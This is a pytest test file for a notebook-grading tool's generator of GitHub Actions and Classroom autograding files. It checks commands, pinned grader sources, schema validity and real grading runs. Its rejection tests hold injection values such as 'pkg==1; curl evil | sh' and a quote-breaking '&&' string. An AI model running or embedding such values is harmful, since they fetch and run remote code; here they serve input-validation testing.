"""``workbook ci-template``: the GitHub Actions workflow and the GitHub Classroom autograding config.

Every command the two files run is checked against this project: ``workbook`` commands with the
CLI's own argparse parser, pip targets against the grader source given, and the workflow against
GitHub's schema (``check-jsonschema --builtin-schema vendor.github-workflows``, offline). The
autograding command is run for real on an answer key, a blank notebook and a blank notebook that
switches strict mode off.
"""

from __future__ import annotations

import argparse
import json
import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
import yaml

from grader import templates
from grader.assign import autograding_config, check_grader_source, workflow, write_ci_template
from grader.cli import _parser, main
from grader.notebooks import fill, read, write
from grader.questions import OpenQuestion
from grader.registry import load

ROOT = Path(__file__).resolve().parents[1]
NOTEBOOKS = sorted((ROOT / "notebooks").glob("[0-9][0-9]_*.ipynb"))
SOURCE = "git+https://github.com/instructor/customer-value-workbook@v1.0"
WORKFLOW_TEXT = workflow(grader_source=SOURCE, pass_mark=80)
WORKFLOW = yaml.safe_load(WORKFLOW_TEXT)
STEPS = WORKFLOW["jobs"]["grade"]["steps"]
CONFIG = autograding_config(grader_source=SOURCE, pass_mark=80)
SHELL_KEYWORDS = {"if", "then", "else"}


def _simple_commands(script: str) -> list[list[str]]:
    """Split shell lines into simple commands (on newlines, ``&&``, ``||``, ``;``, ``(`` and ``)``),
    without the ``if``/``then`` keywords and ``fi``."""
    commands = []
    for line in script.splitlines():
        lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        current = []
        for token in [*lexer, ";"]:
            if set(token) <= set("&|;()"):
                while current and current[0] in SHELL_KEYWORDS:
                    current.pop(0)
                if current and current != ["fi"]:
                    commands.append(current)
                current = []
            else:
                current.append(token)
    return commands


def _all_commands() -> list[list[str]]:
    scripts = [step["run"] for step in STEPS if "run" in step]
    for test in CONFIG["tests"]:
        scripts += [test["setup"], test["run"]]
    unique = []
    for script in scripts:
        for command in _simple_commands(script):
            if command not in unique:
                unique.append(command)
    return unique


COMMANDS = _all_commands()


def _subcommands() -> dict:
    action = next(a for a in _parser()._actions if isinstance(a, argparse._SubParsersAction))
    return action.choices


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c)[:60] for c in COMMANDS])
def test_every_command_is_real(command):
    program = Path(command[0]).name
    if program == "workbook":
        assert command[1] in _subcommands()
        _, unknown = _parser().parse_known_args(command[1:])
        assert unknown == [], f"unknown options for workbook {command[1]}: {unknown}"
    elif program.startswith("python") and command[1:3] == ["-m", "pip"]:
        assert command[3] == "install" and command[-1] == SOURCE  # never the student's repository
        assert not any(a in ("-e", ".", "--editable") for a in command)
    elif program.startswith("python") and command[1:3] == ["-m", "venv"]:
        assert command[3:] == [".venv"]
    elif program == "sudo":
        assert command[1:] in (["apt-get", "update", "-q"], ["apt-get", "install", "-y", "-q", "bubblewrap"],
                               ["sysctl", "-w", "kernel.apparmor_restrict_unprivileged_userns=0"])
    elif program in ("test", "command"):
        assert command[1] in ("-x", "-e", "-v")
    else:
        pytest.fail(f"unexpected command {command}")


def test_cli_writes_the_workflow_and_the_autograding_config(tmp_path, capsys):
    assert main(["ci-template", "--out", str(tmp_path), "--grader-source", SOURCE, "--pass-mark", "80"]) == 0
    workflow_path = tmp_path / ".github" / "workflows" / "workbook.yml"
    autograding = tmp_path / ".github" / "classroom" / "autograding.json"
    assert capsys.readouterr().out.split() == [str(workflow_path), str(autograding)]
    assert workflow_path.read_text() == WORKFLOW_TEXT
    assert json.loads(autograding.read_text()) == CONFIG
    assert main(["ci-template", "--out", str(tmp_path), "--grader-source", SOURCE]) == 2
    assert "--force" in capsys.readouterr().err
    assert main(["ci-template", "--out", str(tmp_path), "--grader-source", SOURCE, "--force"]) == 0
    with pytest.raises(SystemExit):
        main(["ci-template", "--out", str(tmp_path)])  # the grader source is required


def test_workflow_grades_outside_the_learners_kernel_with_a_pinned_grader():
    assert set(WORKFLOW["jobs"]) == {"grade"}
    triggers = WORKFLOW.get("on", WORKFLOW.get(True))  # YAML 1.1 reads a bare `on` as True
    assert {"push", "pull_request"} <= set(triggers)
    uses = {step["uses"].split("@")[0]: step for step in STEPS if "uses" in step}
    assert set(uses) == {"actions/checkout", "actions/setup-python", "actions/upload-artifact"}
    upload = uses["actions/upload-artifact"]
    assert upload["if"] == "always()" and upload["with"]["path"] == "reports/"
    sandbox, install, data, grade = [step for step in STEPS if "run" in step]
    assert _simple_commands(sandbox["run"]) == [c.split() for c in (
        "sudo apt-get update -q", "sudo apt-get install -y -q bubblewrap", "test -e "
        "/proc/sys/kernel/apparmor_restrict_unprivileged_userns",
        "sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0")]
    assert install["run"] == f'python -m pip install "{SOURCE}"'
    assert grade["run"].split()[:5] == ["workbook", "grade", "notebooks/", "--fail-under", "80"]
    for option in ("--junit reports/junit.xml", "--json reports/grades.json", "--feedback reports/feedback"):
        assert option in grade["run"]
    assert grade["env"]["WORKBOOK_GRADING_SEED"] == "${{ secrets.WORKBOOK_GRADING_SEED }}"
    assert "nbval" not in WORKFLOW_TEXT and "pytest" not in WORKFLOW_TEXT
    at = {id(step): i for i, step in enumerate(STEPS)}
    assert at[id(uses["actions/checkout"])] < at[id(sandbox)] < at[id(install)] < at[id(data)] < at[id(grade)]
    assert data["run"].startswith("workbook data --out ")
    assert at[id(grade)] < at[id(upload)]


def _check_jsonschema(path: Path) -> subprocess.CompletedProcess:
    exe = shutil.which("check-jsonschema", path=str(Path(sys.executable).parent)) or shutil.which("check-jsonschema")
    if exe is None:
        pytest.fail("check-jsonschema is not installed (it is in the test extra: pip install -e '.[test]')")
    return subprocess.run([exe, "--builtin-schema", "vendor.github-workflows", str(path)], capture_output=True,
                          text=True, timeout=120)


def test_workflow_is_valid_for_github_actions(tmp_path):
    good = tmp_path / "workbook.yml"
    good.write_text(WORKFLOW_TEXT)
    result = _check_jsonschema(good)
    assert result.returncode == 0, result.stdout + result.stderr
    broken = yaml.safe_load(WORKFLOW_TEXT)
    del broken["jobs"]["grade"]["runs-on"]  # the schema check is not vacuous
    bad = tmp_path / "broken.yml"
    bad.write_text(yaml.safe_dump(broken))
    assert _check_jsonschema(bad).returncode != 0


@pytest.mark.parametrize("python", ["python", ".venv/bin/python"])
def test_the_data_step_writes_where_the_installed_grader_reads(python, tmp_path):
    """The shell substitution in the data command names ``grader.shop.DEFAULT_DIRECTORY``."""
    from grader.shop import DEFAULT_DIRECTORY

    command = templates.DATA_COMMAND.format(workbook="echo", python=sys.executable)
    result = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0 and result.stdout.split() == ["data", "--out", str(DEFAULT_DIRECTORY)]
    scripts = [step["run"] for step in STEPS if "run" in step] + [t["setup"] for t in CONFIG["tests"]]
    assert any(templates.DATA_COMMAND.format(workbook=python.replace("python", "workbook"), python=python) in s
               for s in scripts)


def test_autograding_has_one_workbook_grade_test_per_notebook():
    assert list(CONFIG) == ["tests"]
    tests = CONFIG["tests"]
    assert [t["run"].split()[2] for t in tests] == [f"notebooks/{p.name}" for p in NOTEBOOKS]
    for test, path in zip(tests, NOTEBOOKS, strict=True):
        assert set(test) == {"name", "setup", "run", "input", "output", "comparison", "timeout", "points"}
        assert test["comparison"] == "included" and test["input"] == test["output"] == ""
        assert isinstance(test["timeout"], int) and test["timeout"] > 0
        assert test["points"] == sum(q.points for q in load(path.stem) if not isinstance(q, OpenQuestion))
        assert test["run"].split() == [".venv/bin/workbook", "grade", f"notebooks/{path.name}", "--topic",
                                       path.stem[:2], "--fail-under", "80", "--jobs", "1"]
        assert "bubblewrap" in test["setup"] and "apparmor_restrict_unprivileged_userns=0" in test["setup"]
        assert f'pip install -q "{SOURCE}"' in test["setup"] and "nbval" not in json.dumps(test)


@pytest.mark.parametrize("source", [".", "-e .", "./", "customer-value-workbook", "git+https://github.com/a/b",
                                    "git+file:///home/student/repo@v1", "pkg==1; curl evil | sh",
                                    f'{SOURCE}" && echo "', ""])
def test_a_grader_source_the_student_controls_or_unpinned_is_refused(source, tmp_path, capsys):
    with pytest.raises(ValueError, match="pinned and outside the student's repository"):
        check_grader_source(source)
    assert main(["ci-template", "--out", str(tmp_path), "--grader-source", source]) == 2
    assert not (tmp_path / ".github").exists()


@pytest.mark.parametrize("source", ["customer-value-workbook==0.1.0", SOURCE,
                                    "https://example.org/dist/customer_value_workbook-0.1.0-py3-none-any.whl"])
def test_pinned_sources_are_accepted(source):
    assert check_grader_source(f"  {source} ") == source


@pytest.mark.parametrize("material", ["solutions/02_feature_engineering.py", "grader/exercises/00_start_here.py",
                                      "keys/00_start_here.ipynb"])
def test_a_template_repository_with_reference_solutions_is_refused(material, tmp_path):
    (tmp_path / material).parent.mkdir(parents=True)
    (tmp_path / material).write_text("# answers\n")
    with pytest.raises(ValueError, match="must not hold reference solutions"):
        write_ci_template(tmp_path, grader_source=SOURCE)
    assert not (tmp_path / ".github").exists()


def test_pass_mark_must_be_a_percentage():
    for mark in (-1, 100.5):
        with pytest.raises(ValueError, match="percentage from 0 to 100"):
            autograding_config(["00_start_here"], grader_source=SOURCE, pass_mark=mark)


@pytest.fixture(scope="module")
def classroom_repo(tmp_path_factory):
    """A student repository with the answer key, a blank notebook and one that switches strict mode
    off, and ``.venv`` pointing at this environment (as the autograding setup would leave it)."""
    if sys.prefix == sys.base_prefix:
        pytest.skip("the autograding commands expect the grader in a virtual environment (.venv)")
    repo = tmp_path_factory.mktemp("student")
    source = ROOT / "notebooks" / "00_start_here.ipynb"
    blank = read(source)
    disarmed = fill(read(source), solved=False)
    disarmed.cells.insert(1, nbformat.v4.new_code_cell("import grader\ngrader.setup(strict=False)"))
    for name, nb in {"key": fill(read(source), solved=True), "blank": blank, "disarmed": disarmed}.items():
        write(nb, repo / name / "notebooks" / source.name)
        (repo / name / ".venv").symlink_to(sys.prefix, target_is_directory=True)
    return repo


@pytest.mark.parametrize("which, passes", [("key", True), ("blank", False), ("disarmed", False)])
def test_the_autograding_command_passes_only_right_answers(which, passes, classroom_repo):
    test = autograding_config(["00_start_here"], grader_source=SOURCE, pass_mark=100)["tests"][0]
    env = {k: v for k, v in os.environ.items() if not k.startswith("WORKBOOK_")}
    result = subprocess.run(["bash", "-c", test["run"]], cwd=classroom_repo / which, env=env, capture_output=True,
                            text=True, timeout=60 * test["timeout"])
    assert (result.returncode == 0) is passes, result.stdout[-3000:] + result.stderr[-2000:]
    if not passes:
        assert result.returncode == 1 and "scored under 100%" in result.stderr


def test_templates_module_lists_what_it_exports():
    assert set(templates.__all__) == {name for name in dir(templates) if name.isupper()}
